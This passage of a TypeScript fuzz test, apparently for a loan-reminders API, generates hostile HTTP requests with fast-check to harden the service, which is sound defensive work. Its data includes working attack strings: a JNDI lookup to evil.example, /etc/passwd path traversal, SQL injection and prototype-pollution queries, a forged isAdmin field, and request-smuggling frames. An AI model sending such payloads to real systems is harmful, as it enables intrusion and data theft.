  const requests: Array<[string, string, Record<string, string>]> = [
    ['GET', '/healthz', {}],
    ['GET', '/readyz', {}],
    ['GET', '/openapi.json', {}],
    ['GET', '/docs', {}],
    ['GET', '/docs/init.js', {}],
    ['GET', '/docs/swagger-ui.css', {}],
    ['GET', '/docs/favicon-32x32.png', {}],
    ['GET', `/v1/loans/${target}`, bearer(ctx.keys.reader)],
    ['GET', '/v1/loans?pageSize=5', bearer(ctx.keys.reader)],
    ['GET', '/v1/analytics/effectiveness', bearer(ctx.keys.analytics)],
    ['GET', '/dashboard/', { authorization: basic }],
    ['GET', '/dashboard/assets/dashboard.css', { authorization: basic }],
    ['GET', '/dashboard/assets/chart.umd.js', { authorization: basic }],
    ['GET', '/metrics', bearer(ctx.keys.metrics)],
    ['OPTIONS', '/codec/decode', { 'access-control-request-method': 'POST' }],
  ];
  const hostile = pick<Record<string, string>>([
    { 'x-request-id': 'x'.repeat(5000) },
    { 'x-request-id': '../../../etc/passwd' },
    { 'x-request-id': '${jndi:ldap://evil.example/a}' },
    { 'x-request-id': '\u00e9\u00ff' },
    { 'x-forwarded-for': '1.2.3.4, evil, ::1, 999.999.999.999' },
    { 'x-forwarded-host': 'evil.example' },
    { host: 'evil.example:1' },
    { host: '' },
    { origin: 'https://evil.example' },
    { origin: 'null' },
    { range: 'bytes=999999999-' },
    { range: 'bytes=5-1' },
    { range: 'bytes=abc' },
    { range: `bytes=${Array.from({ length: 200 }, (_, i) => `${i}-${i}`).join(',')}` },
    { 'if-none-match': '*' },
    { 'if-modified-since': 'not a date' },
    { 'if-range': 'x' },
    { accept: 'text/csv' },
    { accept: '*/*;q=abc, text/csv;q=2' },
    { accept: 'application/xml' },
    { 'accept-encoding': 'gzip;q=nope, *;q=0' },
    { 'accept-language': 'x'.repeat(4000) },
    { 'content-type': 'application/json' },
    { 'content-length': '0' },
    { cookie: 'a=b; '.repeat(500) },
    { expect: '100-continue' },
    { 'x-http-method-override': 'DELETE' },
    { 'access-control-request-headers': 'x-evil, authorization' },
  ]);
  return fc.tuple(pick(requests), hostile, fc.nat(4)).map(([[method, path, auth], extra, n]) => ({
    family: 'hostile headers',
    expect: { kind: 'any' },
    build: () => {
      // A few header sets at once now and then.
      const more: Record<string, string> = n === 0 ? { 'x-a': 'a'.repeat(100), 'x-b': '\u00ff'.repeat(100) } : {};
      return { method, path, headers: { ...auth, ...extra, ...more } };
    },
  }));
}

function hostileQuery(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const listQueries = [
    "status=active' OR '1'='1",
    'status=active&status=paid',
    'status[]=active',
    'stage=due%27%20OR%201%3D1',
    "policyId=default' OR WorkflowId != '",
    'pageToken=AAAA',
    `pageToken=${'A'.repeat(2048)}`,
    `pageToken=${'A'.repeat(2049)}`,
    'pageToken=%FF%FE',
    'pageToken=eyJhIjoxfQ',
    'pageSize=0',
    'pageSize=-1',
    'pageSize=1e9',
    'pageSize=abc',
    'pageSize=0x10',
    'minOutstanding=-1',
    'minOutstanding=1e400',
    'maxOutstanding=NaN',
    'minOutstanding=5&maxOutstanding=1',
    'overdue=maybe',
    'overdue=true&overdue=false',
    'q=anything',
    '__proto__[polluted]=1',
    'constructor[prototype][x]=1',
    '%',
    '%E0%A4%A',
    'a=%00',
    `${'x=1&'.repeat(2000)}y=2`,
  ];
  const analyticsQueries = [
    'from=2026-13-01',
    'from=2026-02-30',
    'from=2030-01-01&to=2020-01-01',
    'from=2000-01-01&to=2030-01-01',
    'groupBy=__proto__',
    'groupBy=stage;DROP',
    'format=xml',
    'format=csv&format=json',
    'to=+275760-09-13T00:00:00Z',
    'from=1970-01-01T00:00:00Z&to=1970-12-31',
    'from=-000001-01-01',
    'from[]=1',
    'unknown=1',
    'to=2026-01-01T00:00:00+25:00',
  ];
  return fc
    .tuple(fc.boolean(), pick(listQueries), pick(analyticsQueries), pick(['api', 'dashboard'] as const))
    .map(([list, lq, aq, via]) => ({
      family: 'hostile query strings',
      expect: { kind: 'any' },
      build: () => {
        if (list)
          return { method: 'GET', path: `/v1/loans?${lq.replace(/ /g, '%20')}`, headers: bearer(ctx.keys.reader) };
        return via === 'api'
          ? { method: 'GET', path: `/v1/analytics/effectiveness?${aq}`, headers: bearer(ctx.keys.analytics) }
          : {
              method: 'GET',
              path: `/dashboard/effectiveness.json?${aq}`,
              headers: { authorization: `Basic ${Buffer.from(`ops:${ctx.keys.analytics}`).toString('base64')}` },
            };
      },
    }));
}

function codecGarbage(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  const bodies: string[] = (
    [
      { payloads: 'x' },
      { payloads: [{ data: '!!!' }] },
      {
        payloads: [
          { metadata: { encoding: b64('binary/encrypted'), 'encryption-key-id': b64('nope') }, data: b64('x') },
        ],
      },
      {
        payloads: [
          {
            metadata: { encoding: b64('binary/encrypted'), 'encryption-key-id': b64('hostile') },
            data: randomBytes(64).toString('base64'),
          },
        ],
      },
      // An own "__proto__" key, as JSON.parse makes it.
      `{"payloads":[{"metadata":{"__proto__":"${b64('x')}","encoding":"${b64('json/plain')}"},"data":"${b64('{}')}"}]}`,
      { payloads: Array.from({ length: 10_001 }, () => ({})) },
      { payloads: [{ metadata: { ['k'.repeat(300)]: 'AA==' } }] },
      { payloads: [], extra: 1 },
      { payloads: [{ metadata: { encoding: b64('json/plain') }, data: b64('{"a":1}') }] },
      { payloads: [{ data: 'A'.repeat(1_000_000) }] },
    ] as unknown[]
  ).map((b) => (typeof b === 'string' ? b : JSON.stringify(b)));
  return fc
    .tuple(pick(bodies), fc.boolean(), pick(['decode', 'encode'] as const), fc.boolean())
    .map(([body, ui, dir, wrongToken]) => ({
      family: 'codec endpoint garbage',
      expect: ui && wrongToken ? { kind: 'refuse' } : { kind: 'any' },
      build: () => {
        const text = body;
        if (ui)
          return {
            method: 'POST',
            path: `/codec/${wrongToken ? `${ctx.codecUiToken}x` : ctx.codecUiToken}/${dir}`,
            headers: JSON_TYPE,
            body: Buffer.from(text),
          };
        return {
          method: 'POST',
          path: `/codec/${dir}`,
          headers: { ...JSON_TYPE, ...bearer(ctx.keys.decoder) },
          body: Buffer.from(text),
        };
      },
    }));
}

function batchMixed(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const junkItem = fc.oneof(
    pick<unknown>([null, 1, 'x', [], {}, { loanId: '../x' }, { loanId: 5 }]),
    fc.nat(5).map((n) => ({ kind: 'bad-amount', n })),
    fc.nat(5).map((n) => ({ kind: 'extra', n })),
  );
  return fc
    .tuple(fc.array(fc.oneof(fc.constant('valid' as const), junkItem), { minLength: 1, maxLength: 12 }), fc.nat(9))
    .map(([items, n]) => {
      const plan: Extract<Expect, { kind: 'batch' }>['items'] = [];
      let loans: unknown[] = [];
      return {
        family: 'batch with hostile items',
        get expect(): Expect {
          return n === 0 ? { kind: 'refuse' } : { kind: 'batch', items: plan };
        },
        build: () => {
          plan.length = 0;
          loans = items.map((it, i) => {
            if (it === 'valid') {
              const body = validLoan(ctx, ctx.uid('HB'), 100 + i);
              plan.push({ valid: true, loanId: body.loanId as string, body });
              return body;
            }
            plan.push({ valid: false });
            const base = validLoan(ctx, ctx.uid('HBX'), 200 + i);
            if (it && typeof it === 'object' && 'kind' in it)
              return (it as { kind: string }).kind === 'bad-amount'
                ? { ...base, amountDue: -1 }
                : { ...base, isAdmin: true };
            return it;
          });
          // One in ten: more items than a batch may hold, refused whole.
          if (n === 0) loans = Array.from({ length: 1001 }, (_, i) => validLoan(ctx, ctx.uid('HBX'), i));
          return jsonSent('POST', '/v1/loans/batch', { loans }, bearer(ctx.keys.writer));
        },
      };
    });
}

function rawHttp(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const key = ctx.keys.writer;
  const target = ctx.targets[0].loanId;
  const body = JSON.stringify(validPayment('RAW-NEVER'));
  const frames = [
    'GARBAGE\r\n\r\n',
    'GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n',
    `GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-Id: a\u0000b\r\n\r\n`,
    `GET /healthz HTTP/1.1\r\nHost: x\r\nX-Bad Header: 1\r\n\r\n`,
    `GET /healthz HTTP/1.1\r\nHost: x\r\nX-Long: ${'a'.repeat(20_000)}\r\n\r\n`,
    `GET /healthz HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 3000 }, (_, i) => `X-${i}: 1\r\n`).join('')}\r\n`,
    `POST /v1/loans/${target}/payments HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\n\r\n${body}`,
    `POST /v1/loans/${target}/payments HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n${body}`,
    `POST /v1/loans/${target}/payments HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 5\r\nContent-Length: 7\r\n\r\n${body}`,
    `POST /v1/loans/${target}/payments HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n${body}\r\n0\r\n\r\n`,
    `GET /v1/loans/${target} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${ctx.keys.reader}\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET http://evil.example/healthz HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET /v1/loans/%E0%A4%A HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${ctx.keys.reader}\r\n\r\n`,
    `GET /v1/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET * HTTP/1.1\r\nHost: x\r\n\r\n`,
  ];
  // Declares more body than it sends, then hangs up: the server sees the request aborted.
  const aborted = `POST /v1/loans/${target}/payments HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"paymentId":`;
  return fc.nat(frames.length).map((i) => ({
    family: 'malformed HTTP',
    expect: { kind: 'any', noResponseOk: i === frames.length },
    build: () => {
      const frame = i === frames.length ? aborted : frames[i];
      // The path, for the report, is the frame's first line (keys masked).
      const line = frame
        .slice(0, frame.indexOf('\r\n'))
        .replace(/[^\x20-\x7e]/g, '?')
        .slice(0, 100);
      return { method: 'RAW', path: `[frame ${i}] ${line}`, headers: {}, raw: Buffer.from(frame, 'latin1') };
    },
  }));
}

function methods(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const target = ctx.targets[0].loanId;
  return fc
    .tuple(
      pick(['PUT', 'DELETE', 'TRACE', 'HEAD', 'OPTIONS', 'PATCH', 'POST', 'GET'] as const),
      pick([
        '/v1/loans',
        `/v1/loans/${target}`,
        '/v1/webhooks/payments',
        '/healthz',
        '/v2/loans',
        '//v1/loans',
        '/V1/LOANS',
        '/v1/loans/',
        `/v1/loans/${target}/payments/extra`,
        '/codec',
        '/dashboard/x',
        '/',
      ] as const),
    )
    .map(([method, path]) => ({
      family: 'wrong methods and unknown routes',
      expect: { kind: 'any' },
      build: () => {
        // A valid payment body with every method: a route that took it by mistake would show it.
        if (method === 'GET' || method === 'HEAD' || method === 'OPTIONS' || method === 'TRACE')
          return { method, path, headers: {} };
        return jsonSent(method, path, validPayment(ctx.uid('PX')), bearer(ctx.keys.writer));
      },
    }));
}

/** Valid requests with known effects, mixed in: they must take effect exactly once. */
function validMixed(ctx: HostileCtx): fc.Arbitrary<Spec> {
  const kinds = [
    'start',
    'payment',
    'webhook',
    'feedback',
    'terms',
    'twilio-reply',
    'aliyun-reply',
    'twilio-receipt',
    'read',
  ] as const;
  return fc
    .tuple(pick(kinds), fc.nat(ctx.targets.length - 1), fc.integer({ min: 1, max: 3 }), fc.integer({ min: 1, max: 99 }))
    .map(([kind, t, replays, amount]) => {
      const target = ctx.targets[t];
      let expect: Expect = { kind: 'any' };
      const spec: Spec = {
        family: 'valid requests mixed in',
        get expect() {
          return expect;
        },
        build: (now) => {
          switch (kind) {
            case 'start': {
              const body = validLoan(ctx, ctx.uid('HV'), 300 + amount);
              // The same start twice: 201, then 200 for the existing loan.
              expect = {
                kind: 'accept',
                statuses: [201, 200],
                effect: { type: 'start', loanId: body.loanId as string, body },
              };
              return jsonSent('POST', '/v1/loans', body, bearer(ctx.keys.writer));
            }
            case 'payment': {
              const paymentId = ctx.uid('PV');
              expect = {
                kind: 'accept',
                statuses: Array(replays).fill(202),
                effect: { type: 'payment', loanId: target.loanId, paymentId, amount },
              };
              return jsonSent(
                'POST',
                `/v1/loans/${target.loanId}/payments`,
                validPayment(paymentId, amount),
                bearer(ctx.keys.writer),
              );
            }
            case 'webhook': {
              // Delivered, then replayed byte for byte (same signature) up to twice: counted once.
              const paymentId = ctx.uid('PW');
              const text = JSON.stringify({ loanId: target.loanId, ...validPayment(paymentId, amount) });
              const ts = Math.floor(now / 1000);
              expect = {
                kind: 'accept',
                statuses: Array(replays).fill(202),
                effect: { type: 'payment', loanId: target.loanId, paymentId, amount },
              };
              return {
                method: 'POST',
                path: '/v1/webhooks/payments',
                headers: {
                  ...JSON_TYPE,
                  'loan-reminders-signature': `t=${ts},v1=${signature(ctx.webhookSecret, ts, text)}`,
                },
                body: Buffer.from(text),
              };
            }
            case 'feedback': {
              const answerId = ctx.uid('AV');
              expect = {
                kind: 'accept',
                statuses: Array(replays).fill(202),
                effect: { type: 'answer', loanId: target.loanId, answerId },
              };
              return jsonSent(
                'POST',
                `/v1/loans/${target.loanId}/feedback`,
                { kind: 'callback', note: 'after six', answerId },
                bearer(ctx.keys.writer),
              );
            }
            case 'terms': {
              const amountDue = 900_000_000 + amount;
              expect = { kind: 'accept', statuses: [200], effect: { type: 'terms', loanId: target.loanId, amountDue } };
              return jsonSent('PATCH', `/v1/loans/${target.loanId}`, { amountDue }, bearer(ctx.keys.writer));
            }
            case 'twilio-reply': {
              const sid = ctx.uid('SMV');
              const params = { From: target.phone, Body: `hello ${sid}`, MessageSid: sid };
              const path = '/v1/webhooks/sms/twilio/inbound';
              const sig = twilio.getExpectedTwilioSignature(ctx.twilioToken, `${ctx.publicBaseUrl}${path}`, params);
              expect = {
                kind: 'accept',
                statuses: Array(replays).fill(200),
                effect: { type: 'answer', loanId: target.loanId, answerId: ctx.answerIdOf('twilio', sid) },
              };
              return {
                method: 'POST',
                path,
                headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': sig },
                body: Buffer.from(new URLSearchParams(params).toString()),
              };
            }
            case 'aliyun-reply': {
              const seq = ctx.uid('SQ');
              expect = {
                kind: 'accept',
                statuses: Array(replays).fill(200),
                effect: { type: 'answer', loanId: target.loanId, answerId: ctx.answerIdOf('aliyun', seq) },
              };
              const item = { phone_number: target.phone.replace(/^\+86/, ''), content: '请回电', sequence_id: seq };
              return jsonSent('POST', `/v1/webhooks/sms/aliyun/inbound?token=${ctx.callbackToken}`, [item]);
            }
            case 'twilio-receipt': {
              // Authentic, for a message the ledger never sent: acknowledged, nothing else.
              const params = { MessageSid: ctx.uid('SMR'), MessageStatus: 'undelivered', ErrorCode: '30003' };
              const path = '/v1/webhooks/sms/twilio/status';
              const sig = twilio.getExpectedTwilioSignature(ctx.twilioToken, `${ctx.publicBaseUrl}${path}`, params);
              expect = { kind: 'accept', statuses: [200] };
              return {
                method: 'POST',
                path,
                headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': sig },
                body: Buffer.from(new URLSearchParams(params).toString()),
              };
            }
            case 'read':
              expect = { kind: 'accept', statuses: [200] };
              return { method: 'GET', path: `/v1/loans/${target.loanId}`, headers: bearer(ctx.keys.reader) };
          }
        },
      };
      return spec;
    });
}

/** Every family, weighted: mostly attacks, about one request in fifteen valid. */
export function hostileRequests(ctx: HostileCtx): fc.Arbitrary<Spec> {
  return fc.oneof(
    { arbitrary: malformedJson(ctx), weight: 10 },
    { arbitrary: oversized(ctx), weight: 2 },
    { arbitrary: wrongTypes(ctx), weight: 10 },
    { arbitrary: wrongContentType(ctx), weight: 6 },
    { arbitrary: badEncoding(ctx), weight: 6 },
    { arbitrary: idInjection(ctx), weight: 10 },
    { arbitrary: hugeNumbers(ctx), weight: 8 },
    { arbitrary: unknownFields(ctx), weight: 6 },
    { arbitrary: forgedPaymentWebhook(ctx), weight: 10 },
    { arbitrary: forgedSmsWebhook(ctx), weight: 8 },
    { arbitrary: wrongAuth(ctx), weight: 8 },
    { arbitrary: hostileHeaders(ctx), weight: 6 },
    { arbitrary: hostileQuery(ctx), weight: 6 },
    { arbitrary: codecGarbage(ctx), weight: 3 },
    { arbitrary: batchMixed(ctx), weight: 2 },
    { arbitrary: rawHttp(ctx), weight: 3 },
    { arbitrary: methods(ctx), weight: 3 },
    { arbitrary: validMixed(ctx), weight: 8 },
  );
}
